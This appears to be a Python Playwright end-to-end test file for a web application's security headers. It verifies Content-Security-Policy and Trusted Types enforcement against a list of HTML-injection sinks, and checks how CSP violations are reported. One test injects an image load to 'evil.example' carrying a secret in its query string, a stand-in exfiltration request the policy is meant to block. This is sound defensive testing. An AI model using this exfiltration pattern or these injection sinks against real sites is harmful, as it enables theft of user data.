"""S-31: the second wall: every page's policy, and one way only for HTML into a page."""

from __future__ import annotations

import json
import time

import pytest
from playwright.sync_api import Browser, BrowserContext, Page

from tests.e2e.attacked import open_chat
from tests.e2e.conftest import Product
from tests.e2e.started import Started, module_url
from tests.e2e.watched import Watched

CSP = {
    "default-src": "'none'",
    "script-src": "'self'",
    "style-src": "'self'",
    "img-src": "'self' data: blob:",
    "connect-src": "'self'",
    "object-src": "'none'",
    "base-uri": "'none'",
    "form-action": "'self'",
    "frame-ancestors": "'none'",
}
PAGES = ["/", "/credentials/", "/login/", "/admin/", "/nowhere/", "/healthz",
         "/api/credentials/", "/admin/sessions_app/savedauthentication/"]  # fmt: skip


@pytest.mark.parametrize("path", PAGES)
def test_every_page_has_the_policy(path: str, attacked_window: BrowserContext) -> None:
    headers = attacked_window.request.get(path, max_redirects=0).headers
    policy = headers["content-security-policy"]
    found = dict(part.strip().partition(" ")[::2] for part in policy.split(";"))
    assert {name: found.get(name) for name in CSP} == CSP
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["x-frame-options"] == "DENY"
    assert headers["referrer-policy"] == "same-origin"
    if path in ("/", "/credentials/"):
        assert found["require-trusted-types-for"] == "'script'"
        assert found["trusted-types"] == "maestro dompurify"


SINKS = [
    "document.body.innerHTML = '<p>x</p>'",
    "document.body.insertAdjacentHTML('beforeend', '<p>x</p>')",
    "document.body.lastElementChild.outerHTML = '<p>x</p>'",
    "document.write('<p>x</p>')",
    "document.createElement('script').src = '/x.js'",
    "document.createElement('script').text = '1'",
    "document.createElement('iframe').srcdoc = '<p>x</p>'",
    "document.createRange().createContextualFragment('<p>x</p>')",
    "new DOMParser().parseFromString('<p>x</p>', 'text/html')",
    "trustedTypes.createPolicy('another', {createHTML: (html) => html})",
    "trustedTypes.createPolicy('default', {createHTML: (html) => html})",
]


@pytest.mark.parametrize("path", ["/", "/credentials/"])
def test_a_string_in_any_other_sink_throws(path: str, watched: Watched) -> None:
    page = watched.page
    page.goto(path)
    page.wait_for_selector("#composer, .card")
    page.evaluate("async (url) => { await import(url); }", module_of(page))
    thrown = {
        sink: page.evaluate(
            f"() => {{ try {{ {sink}; return ''; }} catch (error) {{ return `${{error}}`; }} }}"
        )
        for sink in SINKS
    }
    let_through = {
        sink: said
        for sink, said in thrown.items()
        if not said.startswith("TypeError")
        or ("Trusted" not in said and "Policy" not in said)
    }
    assert let_through == {}


def test_the_pages_own_policy_cannot_be_made_twice(watched: Watched) -> None:
    page = open_chat(watched)
    thrown = page.evaluate(
        "() => { try { trustedTypes.createPolicy('maestro', {}); return ''; }"
        " catch (error) { return error.name; } }"
    )
    assert thrown == "TypeError"


def test_what_the_policy_stops_is_reported_without_its_query(
    product: Product, chromium: Browser
) -> None:
    """Of an installation that nobody attacks: ten lines a minute are soon used up."""
    page = chromium.new_page(base_url=product.url)
    page.goto("/login/?next=/secret-7a/")
    page.evaluate("() => { new Image().src = 'https://evil.example/x.png?secret=7a'; }")
    deadline = time.monotonic() + 15
    while not (found := _reports(product.started)) and time.monotonic() < deadline:
        page.wait_for_timeout(100)
    assert [(one["directive"], one["blocked"], one["page"]) for one in found] == [
        ("img-src", "https://evil.example", "/login/")
    ]
    assert not [one for one in found if "7a" in f"{one['blocked']}{one['page']}"]
    page.close()


def _reports(started: Started) -> list[dict[str, str]]:
    lines = [line for line in started.output.splitlines() if "csp.stopped" in line]
    found = [json.loads(line) for line in lines]
    return [one for one in found if "evil.example" in one["blocked"]]


def module_of(page: Page) -> str:
    """markdown.js where the page has it, else any of its modules."""
    return module_url(page, "shared/markdown") or module_url(page, "shared/dom")
